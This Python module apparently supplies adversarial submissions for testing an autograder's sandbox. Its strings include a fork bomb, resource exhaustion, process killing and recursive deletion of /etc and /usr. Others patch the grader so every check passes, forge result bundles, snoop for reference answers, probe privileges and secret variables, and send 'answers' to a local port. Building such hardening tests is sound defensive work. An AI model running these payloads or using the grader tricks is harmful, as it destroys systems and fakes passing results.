"""Code that attacks the grader, as a student might hand it in, within what a failing test can bear.

Texts with ``{places}`` or ``{port}`` are filled in by the cohort: folders of this machine that must stay
unread and untouched, a port that must not be called.
"""

from grader.check import MIME

STAYS = "98765.4321"  # what a process that should not survive sleeps: found by its command line
DEAF = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
FORKED_MEMORY = """import os, time
for _ in range(12):
    if os.fork() == 0:
        held = bytearray(os.urandom(1 << 20)) * 120
        time.sleep(60)
time.sleep(60)"""
FORK_BOMB = """import os, time
for _ in range(400):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    except OSError:
        pass
time.sleep(60)"""
DAEMON = f"""import os, subprocess
subprocess.Popen(["sleep", "{STAYS}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "{STAYS}"])
    os._exit(0)"""
KILL_ALL = """import os, signal
for target in (os.getppid(), -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass"""
PATCHED = """import builtins, sys
import grader.check, grader.values
np.allclose = np.isclose = np.array_equal = lambda *_, **__: True
builtins.print = lambda *_, **__: None
for module in (grader.check, grader.values):
    module.same = lambda *_: True
    module.kind_faults = lambda *_: []
class Everything(float):
    def __eq__(self, other): return True
    __hash__ = None
grader.check.plain = lambda value: Everything(value) if isinstance(value, float) else value
get_ipython().showtraceback = lambda *_, **__: None"""
NEW_CHECK = """import grader.check
from contextlib import contextmanager
@contextmanager
def check(id):
    yield lambda name, value, **_: None
    print(id, "fine")
grader.check.check = check"""
NESTED = """import os, time
os.chdir({place!r})
for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
os.chdir("/lab")
time.sleep(9)"""
SOCKET_AS_FOLDER = """import os, time
os.unlink("/sockets/k-5")
os.mkdir("/sockets/k-5")
with open("/sockets/k-5/big", "wb") as file:
    file.write(bytes(1 << 20))
time.sleep(9)"""
UNLINKED = """import os, time
held = open("/sockets/big", "wb")
os.unlink("/sockets/big")
held.write(bytes(1 << 20))
time.sleep(9)"""
SHARED_MEMORY = """import mmap, time
held = []
for _ in range(6):
    held.append(mmap.mmap(-1, 200 << 20))
    for page in range(0, 200 << 20, 4096):
        held[-1][page] = 1
time.sleep(9)"""
MANY_FILES = """import os
for number in range(10**9):
    os.close(os.open(f"/lab/{number}", os.O_CREAT | os.O_WRONLY))"""
HUGE_BUNDLE = f"""    kernel = get_ipython().kernel
    session, parent = kernel.session, kernel.get_parent()
    head = b'{{"metadata": {{}}, "data": {{"{MIME}": {{"check": "spread-hidden", "x": ['
    body = head + b"[]," * 1_000_000 + b"[]]}}}}}}"
    parts = [session.pack(session.msg_header("display_data")), session.pack(parent["header"]), b"{{}}", body]
    kernel.iopub_thread.send_multipart([b"display_data", b"<IDS|MSG>", session.sign(parts), *parts])
    return np.var(x)"""
EVERYTHING = """    class Everything:
        def __eq__(self, other): return True
        def __float__(self): return 0.5
        __hash__ = None
    return Everything()"""
FORGED = f"""from IPython.display import publish_display_data
for id in ("centre", "centre-hidden", "spread", "spread-hidden", "heads", "heads-hidden"):
    bundle = {{"check": id, "state": "answered", "values": {{}}, "terms": {{}}, "points": 100}}
    publish_display_data({{{MIME!r}: bundle, "text/plain": "right"}})"""
FORGED_INSIDE = f"""    from IPython.display import publish_display_data
    for value in (1.0, 2.0, 0.5):
        values = {{"spread": value, "of x": 4.66667}}
        for id in ("spread", "spread-hidden"):
            publish_display_data({{{MIME!r}: {{"check": id, "state": "answered", "values": values}}}})
    return 1.0"""
NONSENSE = f"""    from IPython.display import publish_display_data
    deep = []
    for _ in range(300):
        deep = [deep]
    for value in (deep, 10 ** 400, None, "x", {{"spread": 1}}, float("nan")):
        for values in (value, {{"spread": value}}):
            bundle = {{"check": "spread-hidden", "state": "answered", "values": values}}
            publish_display_data({{{MIME!r}: bundle}})
    publish_display_data({{{MIME!r}: ["check"]}})
    raise SystemExit"""
NESTED_BUNDLE = f"""    from IPython.display import publish_display_data
    deep = []
    for _ in range({{depth}}):
        deep = [deep]
    bundle = {{{{"check": "spread-hidden", "state": "answered", "values": deep}}}}
    publish_display_data({{{{{MIME!r}: bundle}}}})
    return np.var(x)"""
CALLERS_NAMES = """    import sys
    frame, told = sys._getframe(), []
    while frame:
        told += [value for value in frame.f_locals.values() if isinstance(value, float)]
        frame = frame.f_back
    return told[0] if told else 1.0"""
ZOMBIES = """import os, subprocess, time
ended = subprocess.Popen(["true"])  # nobody asks how it ended
if os.fork() == 0:
    os._exit(0)
time.sleep(0.5)"""
POOL = """import multiprocessing, time
pool = multiprocessing.get_context("fork").Pool(2)
assert pool.map(abs, [-1, 2]) == [1, 2]
pool.close()
time.sleep(0.5)  # and no join
assert pool is not None"""
FALSE_IDLE = """kernel = get_ipython().kernel
for state in ("idle", "busy", "idle"):
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": state}, parent=kernel.get_parent())
kernel.session.send(kernel.iopub_socket, "error", {"ename": ["x"] * 9}, parent=kernel.get_parent())
kernel.iopub_socket.send(b"not a message")"""
HEADLESS_MEMORY = """import ctypes, mmap, os, threading, time
if os.fork() == 0:
    def hold():
        held = mmap.mmap(-1, 900 << 20)
        for page in range(0, 900 << 20, 4096):
            held[page] = 1
        time.sleep(9)
    threading.Thread(target=hold).start()
    ctypes.CDLL(None).syscall({exit}, 0)  # the first thread ends, the process does not
time.sleep(9)"""
MANY_SOCKETS = """import os, socket, time
for _ in range(8):
    if os.fork() == 0:
        held = []
        try:
            while True:
                held.append(socket.socketpair())
        except OSError:
            time.sleep(9)
time.sleep(9)"""
MANY_DATES = """import json, time
kernel = get_ipython().kernel
header = {"msg_id": "a", "msg_type": "stream", "x": ["2020-01-01T00:00:00"] * 200_000}
header = json.dumps(header).encode()
parts = [header, header, b"{}", b"{}"]
frames = [b"x", b"<IDS|MSG>", kernel.session.sign(parts), *parts]
for _ in range(20):
    kernel.iopub_socket.send_multipart(frames)
time.sleep(1)"""
NO_LAST_PART = """import os, socket, stat, struct, threading, time
def flood(number):
    part = bytes(8 << 20)
    with socket.socket(fileno=os.dup(number)) as line:
        line.setblocking(True)
        if line.getsockname() == "/sockets/k-2" and not line.getsockopt(1, 30):  # connected
            while True:
                line.sendall(b"\\3" + struct.pack(">Q", len(part)) + part)  # more parts follow
for name in os.listdir("/proc/self/fd"):
    try:
        if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
            threading.Thread(target=flood, args=(int(name),), daemon=True).start()
    except OSError:
        pass
time.sleep(9)"""
REFUSED_RIGHTS = """import ctypes, fcntl, os, socket, sys
libc, opened = ctypes.CDLL(None, use_errno=True), []
def tried(name, call):
    try:
        if call() not in (-1, None):
            opened.append(name)
    except OSError:
        pass
tried("memfd", lambda: os.memfd_create("hidden"))
tried("shmget", lambda: libc.shmget(0, 1 << 20, 0o1600))
tried("unshare", lambda: libc.unshare(0x10000000))
tried("ptrace", lambda: libc.ptrace(16, 1, 0, 0))
tried("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
tried("setuid", lambda: os.setuid(0) or 1)
tried("chroot", lambda: os.chroot("/tmp") or 1)
tried("root", lambda: os.open("/new", os.O_CREAT | os.O_WRONLY))
tried("usr", lambda: os.open("/usr/new", os.O_CREAT | os.O_WRONLY))
tried("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).fileno())
tried("kernel", lambda: os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
tried("unseen", lambda: os.open("/tmp", os.O_TMPFILE | os.O_RDWR))
tried("ports", lambda: os.open("/sockets/kernel.json", os.O_RDWR))
file, room = os.open("/tmp/file", os.O_CREAT | os.O_RDWR), ctypes.c_long(1 << 20)
tried("room", lambda: libc.fallocate(file, 1, ctypes.c_long(0), room))
for door in (0x40305828, 0x4030582A, 0x40305839):
    tried("room by another door", lambda: fcntl.ioctl(file, door, bytes(48)) and None)
tried("network", lambda: socket.socket().fileno())
tried("netlink", lambda: socket.socket(16, socket.SOCK_RAW).fileno())
one, other = socket.socketpair()
for option in (7, 8, 32, 33):
    tried("buffer", lambda: one.setsockopt(socket.SOL_SOCKET, option, 1 << 20) or 1)
tried("semget", lambda: libc.semget(0, 9, 0o1600))
tried("msgget", lambda: libc.msgget(0, 0o1600))
tried("own descriptors", lambda: libc.close_range(1000, 2000, 2))
for place in (sys.base_prefix, "/usr", "/usr/local"):
    version = f"python3.{sys.version_info.minor}"
    tried("packages", lambda: os.listdir(f"{place}/lib/{version}/site-packages") or None)
    tried("packages", lambda: os.listdir(f"{place}/lib/{version}/dist-packages") or None)
tried("disk", lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)))
secrets = [name for name in os.environ if "SECRET" in name or "TOKEN" in name]
host = socket.gethostname()"""
IF_REFUSED = "    return np.var(x) if not opened and not secrets and host == 'lab' else 0.0"
DELETE = """import os, shutil
for place in ("/sockets", "/lab", "/tmp", "/work", "/root", "/home", "/usr", "/etc"):
    shutil.rmtree(place, ignore_errors=True)"""
CWD_TRAPS = """for name in ("queue.py", "conftest.py", "pytest.ini", "numpy.py", "sitecustomize.py"):
    with open(name, "w") as file:
        file.write("raise SystemExit('trapped')")"""
LEAK = """    name = "Leak" + str(list(x)).replace(".", "_")[:40]
    raise type(name, (ValueError,), {})(str(list(x)))"""
SNOOP = """    import glob, json, os
    for place in {places!r}:
        for root, _, files in os.walk(place):
            for file in files:
                if file in ("reference.json", "canary.txt") or "labs" in root and file.endswith(".ipynb"):
                    text = open(os.path.join(root, file)).read()
                    try:
                        bundle = json.loads(text)["checks"]["spread-hidden"]["bundle"]
                        return bundle["values"]["spread"]
                    except Exception:
                        return np.var(x)
    return 0.0"""
VANDAL = """import os
for place in {places!r}:
    for root, folders, files in os.walk(place):
        for file in files:
            try:
                with open(os.path.join(root, file), "a") as handle:
                    handle.write("was here")
            except OSError:
                pass
    try:
        open(os.path.join(place, "was-here"), "w").close()
    except OSError:
        pass"""
CALL_HOME = """import socket, urllib.request
for target in (("127.0.0.1", {port}), ("localhost", {port}), ("10.0.0.1", 80)):
    try:
        socket.create_connection(target, timeout=0.5).send(b"answers")
    except OSError:
        pass
try:
    socket.getaddrinfo("example.org", 80)
except OSError:
    pass"""
NO_PUBLISHER = """ip = get_ipython()
ip.kernel.session.send = lambda *_, **__: None
ip.display_pub.publish = None"""
HANGING_IMPORTS = """import sys, time
class Hangs:
    @staticmethod
    def find_spec(*_):
        time.sleep(1e6)
sys.meta_path.insert(0, Hangs)
for name in [name for name in sys.modules if name.startswith("grader")]:
    del sys.modules[name]"""
SOCKETS_CLOSED = """import os
os.makedirs('/sockets/closed', exist_ok=True)
open('/sockets/closed/big', 'wb').write(bytes(60 << 20))
os.chmod('/sockets/closed', 0)"""
